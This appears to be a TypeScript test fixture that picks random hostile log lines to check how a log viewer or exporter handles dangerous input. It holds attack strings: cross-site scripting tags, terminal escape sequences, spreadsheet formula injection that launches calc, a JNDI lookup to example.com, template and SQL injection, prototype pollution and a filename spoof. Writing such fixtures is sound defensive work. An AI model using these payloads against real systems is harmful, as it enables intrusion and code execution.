import { Random } from '../model/random';

const LONGEST_LINE = 2000;
const ESC = '\u001b';

/** Lines that harm whoever shows, stores or exports them carelessly. */
const HOSTILE_LINES: ReadonlyArray<(stamp: string) => string> = [
  stamp => `${stamp} INFO search "<script>alert(document.cookie)</script>"`,
  stamp => `${stamp} WARN referer <img src=x onerror=alert(1)>`,
  stamp => `${stamp} ${ESC}[31mERROR${ESC}[0m ${ESC}]0;owned\u0007${ESC}[2J`,
  () => `=cmd|'/C calc'!A0`,
  () => '@SUM(1+1)*cmd',
  () => '+1+1+HYPERLINK("http://example.com","open me")',
  stamp => `${stamp} INFO user \u202Eexe.gnp\u202C uploaded a file`,
  stamp => `${stamp} INFO agent \${jndi:ldap://example.com/a} {{7*7}}`,
  stamp => `${stamp} INFO name='; DROP TABLE users; -- "quoted", with, commas`,
  stamp => `${stamp} DEBUG nul \u0000 bell \u0007 tab \t 数据库 🚀`,
  stamp => `{"timestamp":"${stamp}","level":"INFO","__proto__":{"a":1}}`,
  stamp => `{"timestamp":"${stamp}","level":"INFO","message":"cut of`,
  stamp => `${stamp} DEBUG payload ${'x'.repeat(LONGEST_LINE)}`,
  stamp => `${stamp} DEBUG ${'word '.repeat(LONGEST_LINE / 5)}`,
];

/** One of them, at most 2,000 characters long. */
export function hostileLine(stamp: string, random: Random): string {
  return random.pick(HOSTILE_LINES)(stamp).slice(0, LONGEST_LINE);
}
